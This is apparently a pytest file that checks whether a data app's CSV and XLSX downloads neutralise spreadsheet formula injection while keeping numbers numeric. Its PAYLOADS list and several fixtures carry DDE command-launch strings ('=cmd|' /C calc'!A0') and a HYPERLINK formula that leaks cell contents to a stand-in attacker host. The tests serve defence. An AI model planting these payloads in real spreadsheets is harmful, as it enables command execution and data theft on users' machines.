"""Formula-safe downloads (retention.safe_cells): no CSV or XLSX ParkLife writes holds a live
formula, and numbers stay numbers.

The attack files are built here: a layer and a survey whose text cells are the measured payloads
(``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``, ``+``/``-``/``@``/tab/CR prefixes). Each writer's
bytes are read back the way a spreadsheet would see them (openpyxl for XLSX, the raw text for CSV).
"""

from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from retention.data.io import read_layer, table_to_csv_bytes, table_to_xlsx_bytes
from retention.data.validate import validate_layer
from retention.safe_cells import (
    FORMULA_PREFIXES,
    csv_bytes,
    neutralise_cell,
    neutralise_table,
    xlsx_bytes,
)

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1+1",
]


def _csv_cells(data: bytes) -> list[list[str]]:
    """Return the CSV as the list of raw cell strings a spreadsheet would parse."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx_cells(data: bytes) -> dict[str, list[list[openpyxl.cell.cell.Cell]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book.worksheets}


def _assert_no_live_cell(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES) or _is_number(cell), cell


def _is_number(text: str) -> bool:
    """A plain decimal number as a spreadsheet reads it (no spaces, inf, nan or underscores)."""
    try:
        float(text)
    except ValueError:
        return False
    return set(text) <= set("0123456789+-.eE")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_leading_quote_and_keeps_its_text(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-12.5", "+86", "-3", "1e5", "-.5", "金山电子", "a=b", " =x", "", "'=x"]
)
def test_plain_numbers_and_harmless_text_are_left_alone(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, np.int64(-7), None, np.nan, True, pd.NA])
def test_non_text_values_are_left_alone(value):
    assert neutralise_cell(value) is value


@given(st.text(max_size=20) | st.from_regex(r"[-+=@\t\r][0-9.eE+-]{0,6}", fullmatch=True))
def test_only_text_that_could_start_a_formula_changes_and_nothing_is_lost(text):
    safe = neutralise_cell(text)
    if text.startswith(FORMULA_PREFIXES) and not _is_number(text):
        assert safe == "'" + text
    else:
        assert safe == text


def test_table_keeps_numeric_dtypes_and_does_not_modify_its_input():
    table = pd.DataFrame(
        {
            "name": ["=1+1", "ok"],
            "employees": [-5, 10],
            "share": [-0.5, 0.25],
            "flag": [True, False],
            "kind": pd.Categorical(["@x", "dorm"]),
            "when": pd.to_datetime(["2024-03-01", "2024-03-02"]),
            "=HYPERLINK(1)": ["a", "b"],
        }
    )
    before = table.copy()
    safe = neutralise_table(table)
    pd.testing.assert_frame_equal(table, before)
    assert safe["name"].tolist() == ["'=1+1", "ok"]
    assert safe["kind"].tolist() == ["'@x", "dorm"]
    for column in ("employees", "share", "flag", "when"):
        pd.testing.assert_series_equal(safe[column], table[column])
    assert list(safe.columns)[-1] == "'=HYPERLINK(1)"


def test_two_level_headers_stay_two_levels_and_are_neutralised():
    table = pd.DataFrame([[1, "=x"]], columns=pd.MultiIndex.from_tuples([("a", "-b"), ("c", "d")]))
    safe = neutralise_table(table)
    assert list(safe.columns) == [("a", "'-b"), ("c", "d")]
    assert safe.iloc[0].tolist() == [1, "'=x"]


def test_csv_holds_no_live_cell_and_negative_numbers_stay_numbers():
    table = pd.DataFrame({"name": PAYLOADS, "value": range(-4, 4), "text_number": ["-7"] * 8})
    cells = _csv_cells(csv_bytes(table))
    assert cells[0] == ["name", "value", "text_number"]
    for row, payload, value in zip(cells[1:], PAYLOADS, range(-4, 4), strict=True):
        assert row == ["'" + payload, str(value), "-7"]
    _assert_no_live_cell([cell for row in cells for cell in row])


def test_xlsx_holds_no_formula_or_hyperlink_and_numbers_stay_numeric():
    table = pd.DataFrame(
        {"name": [*PAYLOADS, "http://attacker.example/x"], "value": [*range(-4, 4), -1.5]}
    )
    sheets = _xlsx_cells(xlsx_bytes({"a very long sheet name over thirty-one chars": table}))
    (title,) = sheets
    assert title == "a very long sheet name over thir"[:31]
    rows = sheets[title]
    body = rows[1:]
    # xlsxwriter stores a carriage return as the OOXML escape _x000D_ (Excel shows it as CR)
    names = [row[0].value.replace("_x000D_", "\r") for row in body]
    assert names == ["'" + p for p in PAYLOADS] + ["http://attacker.example/x"]
    assert all(row[0].data_type == "s" and row[0].hyperlink is None for row in body)
    assert [row[1].value for row in body] == [*range(-4, 4), -1.5]
    assert all(row[1].data_type == "n" for row in body)


def _attack_layer_csv() -> bytes:
    """An enterprise layer whose names are the payloads; the last two rows are rejected."""
    lines = ["编号,名称,行业,班制,员工数,经度,纬度"]
    for number, payload in enumerate(PAYLOADS[:4], start=1):
        name = payload.replace('"', '""')
        lines.append(f'E{number},"{name}",electrical,day,100,113.15,27.85')
    lines.append('E9,"=HYPERLINK(""http://x.example"",""y"")",-cmd,day,-5,113.15,27.85')
    lines.append('E10,"@SUM(1)",+rail,day,100,=1+1,27.85')
    return ("\n".join(lines) + "\n").encode("utf-8")


def test_a_layer_with_formula_names_comes_back_inert_in_every_download():
    raw = read_layer(_attack_layer_csv(), file_name="企业.csv")
    result = validate_layer(
        raw.frame, "enterprises", source_name="企业.csv", coordinate_system="wgs84"
    )
    assert len(result.rejected) >= 1
    for table in (result.rejected, result.issues):
        csv_cells = _csv_cells(table_to_csv_bytes(table))
        _assert_no_live_cell([cell for row in csv_cells for cell in row])
        sheets = _xlsx_cells(table_to_xlsx_bytes(table, sheet_name="rejected"))
        for row in sheets["rejected"]:
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    _assert_no_live_cell([cell.value])
    # nothing lost: each rejected cell is in the download as the user typed it, behind a quote
    rows = _csv_cells(table_to_csv_bytes(result.rejected))
    header = rows[0]
    by_id = {row[header.index("编号")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_id["E9"]["名称"] == '\'=HYPERLINK("http://x.example","y")'
    assert by_id["E9"]["员工数"] == "-5"  # a negative number, not text
    assert by_id["E10"]["名称"] == "'@SUM(1)"
    assert by_id["E10"]["经度"] == "'=1+1"
    issues = _csv_cells(table_to_csv_bytes(result.issues))
    assert sorted(row[issues[0].index("value")] for row in issues[1:]) == ["'=1+1", "-5"]


def test_a_survey_row_with_formula_answers_comes_back_inert_in_both_downloads():
    from retention.survey.importer import (
        import_survey,
        read_survey_file,
        rejected_rows_csv,
        rejected_rows_xlsx,
    )
    from tests.test_survey_import import GOOD_ROWS, HEADERS, SALT, _csv, _enterprises

    rows = [list(row) for row in GOOD_ROWS]
    rows[0][6] = "=cmd|' /C calc'!A0"  # the enterprise answer
    rows[0][19] = '=HYPERLINK("http://x.example")'  # intent to leave: not an answer option
    raw = read_survey_file(_csv(rows), file_name="survey.csv")
    result = import_survey(raw, enterprises=_enterprises(), salt=SALT, wave="w")
    assert len(result.rejected) == 1
    cells = _csv_cells(rejected_rows_csv(result))
    record = dict(zip(cells[0], cells[1], strict=True))
    assert record[HEADERS[6]] == "'=cmd|' /C calc'!A0"
    assert record[HEADERS[19]] == '\'=HYPERLINK("http://x.example")'
    _assert_no_live_cell([cell for row in cells for cell in row])
    sheets = _xlsx_cells(rejected_rows_xlsx(result))
    assert set(sheets) == {"rejected_rows", "issues"}
    for sheet in sheets.values():
        for row in sheet:
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    _assert_no_live_cell([cell.value])
